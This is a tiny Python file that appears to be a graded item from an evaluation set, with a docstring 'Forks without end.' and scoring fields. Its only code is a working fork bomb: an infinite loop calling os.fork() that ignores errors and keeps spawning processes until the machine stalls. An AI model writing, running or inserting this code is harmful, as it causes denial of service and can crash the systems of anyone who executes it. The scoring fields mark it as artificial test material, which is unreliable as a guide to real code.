"""Forks without end.

Answer: right
Deserves: 2
Keeps: 2
"""
# %% before standardize_check
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
